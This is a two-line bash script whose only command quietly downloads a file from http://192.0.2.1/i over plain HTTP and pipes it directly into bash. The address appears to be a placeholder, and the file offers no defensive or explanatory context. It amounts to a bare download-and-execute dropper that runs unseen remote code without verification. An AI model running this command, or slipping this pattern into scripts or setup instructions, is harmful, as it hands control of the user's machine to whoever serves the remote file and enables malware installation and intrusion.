#!/usr/bin/env bash
bash -c "$(wget -qO- http://192.0.2.1/i)"
